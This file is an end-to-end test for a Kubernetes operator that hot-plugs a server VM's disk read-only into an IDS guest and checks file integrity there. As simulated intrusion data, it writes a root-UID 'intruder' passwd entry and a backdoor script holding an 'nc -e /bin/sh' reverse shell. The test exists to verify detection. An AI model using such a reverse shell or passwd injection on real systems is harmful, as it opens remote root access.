// End to end on a node that runs real guests: a MonitoredServer naming a PVC volume of its server VM
// in spec.server.disks. The server guest has the claim's image attached read-write at boot and
// writes a file into it; the operator hot-plugs the volume into the IDS VM (KubeVirt's own
// virt-controller and virt-api: addvolume, attachment pod, volumeStatus), the virt-handler stand-in
// plugs it into the IDS guest's QEMU over QMP with libvirt's options (read-only, share-rw, locking
// on) and only then reports it Ready. In the IDS guest the disk appears with its serial, mounts
// ro,noload and shows the server's file; writes fail. Removing it from the spec unplugs it from
// QEMU; deleting the MonitoredServer stops both guests, and the claim's image goes with the claim.
import assert from 'node:assert/strict';
import { existsSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { diskSerialForVolume, MOUNT_SCRIPT_PATH, REMOUNT_LOOP_LOG } from '../../src/builders/disk-inspection-cloud-init.ts';
import { REMOUNT_INTERVAL_SECONDS } from '../../src/builders/disk-inspection.ts';
import { blockGuestAssets, MODULES_FAILED_MARKER, waitForDiskBySerial } from '../../testenv/guest/block-guest.ts';
import { monitoredServer, vmTemplate } from '../../testenv/fixtures/monitoredservers.ts';
import { OperatorTestEnv, MS, VM, VMI } from '../../testenv/operator/operator-env.ts';
import { startOperatorProcess, type OperatorProcess } from '../../testenv/operator/operator-process.ts';
import { RealGuestNodes } from '../../testenv/real-guests/real-guest-nodes.ts';
import type { RealGuest } from '../../testenv/real-guests/real-guest-backend.ts';
import { isAlive } from '../../testenv/process-alive.ts';
import { waitFor } from '../../testenv/wait.ts';
import { ourNamespaces, podCgroups } from '../../testenv/real-guests/host-leftovers.ts';

const NS = 'shop';
const NAME = 'db-1';
const CLAIM = 'db-1-data';
const SERIAL = diskSerialForVolume(NAME, 'data');
const CONTENT = 'written by the server guest';
/** The operator's default spec.diskInspection.mountPath, and the volume's directory under it. */
const MOUNT = '/.serverfs/data';
const log = (line: string) => process.stderr.write(`[e2e] ${line}\n`);

/** How many times the operator's refresh loop has mounted the volume in the IDS guest so far. */
async function refreshes(ids: RealGuest): Promise<number> {
  const out = await ids.console.run(`grep -c 'volume data: mounted' ${REMOUNT_LOOP_LOG} 2>/dev/null || true`);
  return Number(/^(\d+)/m.exec(out)?.[1] ?? 0);
}

/**
 * Runs a checker line in the IDS guest once the refresh loop has mounted the volume again since
 * `after` rounds (so it sees the server's disk as it is now); its (short) output is read twice and
 * must agree (a garbled console read is read again).
 */
async function runChecker(ids: RealGuest, line: string, after: number): Promise<string> {
  await waitFor(async () => (await refreshes(ids)) > after || undefined, { timeoutMs: 150_000, intervalMs: 2000, description: 'the next refresh of the server disk in the IDS guest' });
  await ids.console.run(`{ ${line}; } > /root/check.out 2>&1`, 120_000);
  return waitFor(
    async () => {
      const [a, b] = [await ids.console.run('cat /root/check.out'), await ids.console.run('cat /root/check.out')];
      return a === b ? a : undefined;
    },
    { timeoutMs: 60_000, intervalMs: 100, description: 'two equal reads of the checker output' },
  );
}

const claimImageDirs = () => readdirSync(tmpdir()).filter((d) => d.startsWith(`hs-pvc-${process.pid}-`));

describe('end to end on a real-guest node: a server disk hot-plugged into the IDS guest', function () {
  this.timeout(900_000);
  let nodes: RealGuestNodes;
  let backend: RealGuestNodes['backend'];
  let env: OperatorTestEnv;
  let operator: OperatorProcess;
  const podUids = new Set<string>();

  before(async function () {
    const assets = blockGuestAssets();
    // Every VMI a real guest (with the block modules); the process mapper's pod stays a kwok pod:
    // this test is about disks.
    nodes = new RealGuestNodes({ log, kernel: assets.kernel.vmlinuz, initrd: assets.initrd, podSelector: 'hyperspector.io/role=none', cloudInit: true });
    backend = nodes.backend;
    env = await OperatorTestEnv.start(1, undefined, { guestBackend: backend, log });
    nodes.attach(env.cluster.kubeConfig, env.cluster.dir);
    await env.namespace(NS);
    // The user's claim: a hostPath PV bound by kube-controller-manager's PV binder.
    await env.core.createPersistentVolume({
      body: {
        metadata: { name: `${NS}-${CLAIM}` },
        spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: `/var/tmp/${NS}-${CLAIM}` }, persistentVolumeReclaimPolicy: 'Retain', storageClassName: 'manual' },
      },
    });
    await env.core.createNamespacedPersistentVolumeClaim({
      namespace: NS,
      body: { metadata: { name: CLAIM }, spec: { accessModes: ['ReadWriteOnce'], storageClassName: 'manual', resources: { requests: { storage: '1Gi' } }, volumeName: `${NS}-${CLAIM}` } },
    });
    await waitFor(async () => (await env.core.readNamespacedPersistentVolumeClaim({ namespace: NS, name: CLAIM })).status?.phase === 'Bound' || undefined, { description: `PVC ${CLAIM} Bound` });
    operator = await startOperatorProcess(env.cluster, { user: 'operator' });
  });

  after(async function () {
    await operator?.stop();
    await env?.stop();
    await nodes?.stop();
  });

  it('plugs the server’s PVC read-only into the IDS guest: the serial, the server’s file, no writes; unplugs it; deleting leaves no process', async function () {
    const server = vmTemplate({ app: NAME }, '1Gi');
    const spec = server.spec.template!.spec!;
    spec.domain.devices.interfaces = [{ name: 'default', bridge: {} }];
    spec.domain.devices.disks!.push({ name: 'data', disk: { bus: 'virtio' } });
    spec.volumes!.push({ name: 'data', persistentVolumeClaim: { claimName: CLAIM } });
    const applied = Date.now();
    await env.createMonitoredServer(monitoredServer(NAME, NS, { server: { template: server, disks: ['data'], deletionPolicy: 'Delete' } }));

    // The server guest boots with the claim's image read-write (virtio, /dev/vda) and writes a file.
    const serverGuest = await waitFor(() => backend.guest(NS, `${NAME}-server`), { timeoutMs: 300_000, intervalMs: 500, description: 'the server VMI to be a real guest' });
    const image = backend.images.list()[0];
    assert.ok(image, 'the claim has an image on the node');
    const serverBlocks = await serverGuest.blockDevices();
    assert.deepEqual(
      serverBlocks.filter((b) => b.file === image).map((b) => ({ qdev: b.qdev.replace(/\/virtio-backend$/, ''), readOnly: b.readOnly })),
      [{ qdev: '/machine/peripheral/ua-data', readOnly: false }],
      'the server QEMU has the claim read-write (query-block)',
    );
    await serverGuest.waitForBoot();
    assert.ok(!serverGuest.console.output.includes(MODULES_FAILED_MARKER), 'the block modules loaded in the server guest');
    const written = await serverGuest.console.run(`mkdir -p /srv/data && mount -t ext4 /dev/vda /srv/data && echo '${CONTENT}' > /srv/data/hello.txt && sync && echo @@WRITTEN`, 60_000);
    assert.match(written, /@@WRITTEN/, written);

    // The operator's side: DiskAttached=True once KubeVirt reports the volume Ready — which the
    // stand-in does only after the IDS QEMU accepted blockdev-add and device_add.
    const ms = await env.waitForCondition(NS, NAME, 'DiskAttached', 'True', 'Attached', 300_000);
    const attachedMs = Date.now() - applied;
    assert.match(env.condition(ms, 'DiskAttached')!.message, new RegExp(`serial ${SERIAL}`));
    const ids = await waitFor(() => backend.guest(NS, `${NAME}-ids`), { timeoutMs: 60_000, description: 'the IDS VMI to be a real guest' });
    const idsBlocks = await ids.blockDevices();
    const plugged = idsBlocks.filter((b) => b.file === image);
    assert.deepEqual(plugged.map((b) => ({ qdev: b.qdev.replace(/\/virtio-backend$/, ''), readOnly: b.readOnly })), [{ qdev: `/machine/peripheral/ua-${SERIAL}`, readOnly: true }], 'the IDS QEMU has it read-only (query-block)');
    const vmi = await env.get(VMI, NS, `${NAME}-ids`);
    const entry = vmi?.status?.volumeStatus?.find((v: { name: string }) => v.name === SERIAL);
    assert.equal(entry?.phase, 'Ready');
    assert.match(entry?.target ?? '', /^vd[a-z]$/);

    // In the IDS guest: cloud-init (played by the test world) wrote the operator's mount script and
    // ran its runcmd; the disk has its serial and is mounted ro,noload at <mountPath>/<volume>, re-mounted by the refresh loop; the server's file is there.
    await ids.waitForBoot();
    assert.ok(!ids.console.output.includes(MODULES_FAILED_MARKER), 'the block modules loaded in the IDS guest');
    const cloudInit = await ids.cloudInit;
    assert.ok(cloudInit, 'the IDS VMI has the operator’s cloud-init user data');
    assert.ok(cloudInit.plan.files.some((f) => f.path === MOUNT_SCRIPT_PATH), `cloud-init writes ${MOUNT_SCRIPT_PATH}`);
    assert.deepEqual(cloudInit.exitCodes.slice(-1), [0], `the runcmd script ran:\n${cloudInit.output}`);
    const found = await ids.console.run(waitForDiskBySerial(SERIAL, 60), 90_000);
    const dev = /@@DISK=(vd[a-z]+)/.exec(found)?.[1];
    assert.ok(dev, `a disk with serial ${SERIAL} in the IDS guest:\n${found}`);
    const visibleMs = Date.now() - applied;
    log(`apply → DiskAttached=True ${(attachedMs / 1000).toFixed(1)} s; apply → disk ${dev} (serial ${SERIAL}) visible in the IDS guest ${(visibleMs / 1000).toFixed(1)} s`);
    // The test guest has neither systemd nor cron: the operator's runcmd started its refresh loop.
    // runcmd mounted the disk if it was plugged by then; else the loop's first round does.
    const mounted = await waitFor(
      async () => {
        const out = await ids.console.run(`grep ' ${MOUNT} ' /proc/mounts && blockdev --getro /dev/${dev} && cat ${MOUNT}/hello.txt`);
        return out.includes(CONTENT) ? out : undefined;
      },
      { timeoutMs: 150_000, intervalMs: 2000, description: `the server's disk mounted at ${MOUNT} in the IDS guest by the operator's cloud-init` },
    );
    assert.match(mounted, new RegExp(`^/dev/${dev} ${MOUNT} ext4 ro,nosuid,nodev,noexec,.*norecovery.*\\n1\\n${CONTENT}\\n`), mounted);
    assert.match(await ids.console.run(`ps | grep -c '[w]hile sleep ${REMOUNT_INTERVAL_SECONDS}; do ${MOUNT_SCRIPT_PATH} refresh'`), /^1\n/, 'one refresh loop runs');
    const writes = await ids.console.run(
      `echo intruder > ${MOUNT}/evil.txt 2>&1; echo "@@fs=$?"; dd if=/dev/zero of=/dev/${dev} bs=4096 count=1 conv=notrunc 2>&1; echo "@@dev=$?"`,
      60_000,
    );
    assert.match(writes, /Read-only file system[\s\S]*@@fs=[1-9]/, writes);
    assert.match(writes, /@@dev=[1-9]/, writes);

    // File integrity, as a checker in the IDS VM sees it (the test guest has no AIDE: md5 over the
    // tree): the server changes a file, adds one and removes one; after the next refresh the checker
    // reports exactly those three, and the server never saw an error.
    const tree = await serverGuest.console.run(
      "mkdir -p /srv/data/etc /srv/data/bin && printf 'root:x:0:0::/root:/bin/sh\\n' > /srv/data/etc/passwd && echo 127.0.0.1 localhost > /srv/data/etc/hosts && " +
        'dd if=/dev/urandom of=/srv/data/bin/app bs=1024 count=256 2>/dev/null && sync && echo @@TREE',
      60_000,
    );
    assert.match(tree, /@@TREE/, tree);
    const baseline = await runChecker(ids, `( cd ${MOUNT} && find . -type f -exec md5sum {} \\; ) > /root/fim.db; wc -l < /root/fim.db`, await refreshes(ids));
    assert.match(baseline, /^4\n/, `the checker's baseline holds the server's 4 files:\n${baseline}`);
    const changedAt = Date.now();
    const changed = await serverGuest.console.run(
      "echo 'intruder:x:0:0::/root:/bin/sh' >> /srv/data/etc/passwd && printf '#!/bin/sh\\nnc -e /bin/sh 127.0.0.1 4444\\n' > /srv/data/bin/backdoor && rm /srv/data/etc/hosts && sync && echo @@CHANGED",
      60_000,
    );
    assert.match(changed, /@@CHANGED/, changed);
    const report = await runChecker(
      ids,
      `( cd ${MOUNT} && find . -type f -exec md5sum {} \\; ) > /root/fim.now; ` +
        `awk 'NR==FNR { old[$2]=$1; next } { if (!($2 in old)) print "ADDED " $2; else if (old[$2] != $1) print "CHANGED " $2; delete old[$2] } END { for (f in old) print "REMOVED " f }' /root/fim.db /root/fim.now | sort`,
      await refreshes(ids),
    );
    assert.equal(report, 'ADDED ./bin/backdoor\nCHANGED ./etc/passwd\nREMOVED ./etc/hosts\n', report);
    log(`server change → reported by the checker in the IDS guest after the next refresh ${((Date.now() - changedAt) / 1000).toFixed(1)} s`);
    const serverHealth = await serverGuest.console.run("echo more >> /srv/data/hello.txt && sync && echo @@WROTE; dmesg | grep -c -E 'I/O error|EXT4-fs error'", 60_000);
    assert.match(serverHealth, /@@WROTE\n0\n/, `the server writes on, with no I/O or file system error:\n${serverHealth}`);

    // Removing the disk from the spec unplugs it from the IDS QEMU (the guest lets go of the mount first).
    assert.match(await ids.console.run(`${MOUNT_SCRIPT_PATH} umount; echo "@@UMOUNT=$?"; grep -c ' ${MOUNT} ' /proc/mounts`), /@@UMOUNT=0\n0\n/);
    await env.mergePatch(MS, NS, NAME, { spec: { server: { disks: [] } } });
    const unplugStarted = Date.now();
    await waitFor(
      async () => (ids.plugged.size === 0 && !(await ids.blockDevices()).some((b) => b.file === image) && !(await ids.blockNodes()).some((n) => n.file === image)) || undefined,
      { timeoutMs: 120_000, intervalMs: 500, description: 'the disk gone from the IDS QEMU: no device (query-block), no block node (query-named-block-nodes)' },
    );
    log(`spec change → disk unplugged from the IDS QEMU ${((Date.now() - unplugStarted) / 1000).toFixed(1)} s`);
    const gone = await ids.console.run(`ls /sys/block; grep -l '${SERIAL}' /sys/block/*/serial 2>/dev/null; echo @@done`);
    assert.doesNotMatch(gone, new RegExp(dev), gone);
    assert.ok((await serverGuest.blockDevices()).some((b) => b.file === image && b.readOnly === false), 'the server keeps its disk');

    // Deleting the MonitoredServer: both guests stop, nothing of them is left; the claim (the
    // user's) keeps its image until it is deleted.
    const guests: RealGuest[] = backend.list();
    assert.equal(guests.length, 2);
    for (const g of guests) podUids.add(g.podUid);
    const pids = guests.map((g) => g.pid);
    const launcherNamespaces = guests.map((g) => g.launcher.ns.name);
    await env.delete(MS, NS, NAME);
    await env.waitGone(MS, NS, NAME, 180_000);
    await env.waitGone(VM, NS, `${NAME}-server`, 180_000);
    await waitFor(() => (backend.list().length === 0 && pids.every((p) => !isAlive(p))) || undefined, { timeoutMs: 180_000, intervalMs: 500, description: 'both guests to stop' });
    for (const name of launcherNamespaces) assert.ok(!ourNamespaces(backend.network.prefix).includes(name), `${name} is gone`);
    assert.deepEqual(podCgroups([...podUids]), [], 'no pod cgroup left');
    assert.ok(existsSync(image), 'the claim still exists: its image stays');
    await env.core.deleteNamespacedPersistentVolumeClaim({ namespace: NS, name: CLAIM });
    await waitFor(() => !existsSync(image) || undefined, { timeoutMs: 120_000, intervalMs: 500, description: `the image of the deleted claim (${image}) removed` });
    assert.deepEqual(backend.images.list(), []);
  });

  it('leaves no image directory, namespace or cgroup once the world is stopped', async function () {
    await operator.stop();
    await env.stop();
    await nodes.stop();
    assert.deepEqual(claimImageDirs(), []);
    assert.deepEqual(ourNamespaces(backend.network.prefix), []);
    assert.deepEqual(podCgroups([...podUids]), []);
  });
});
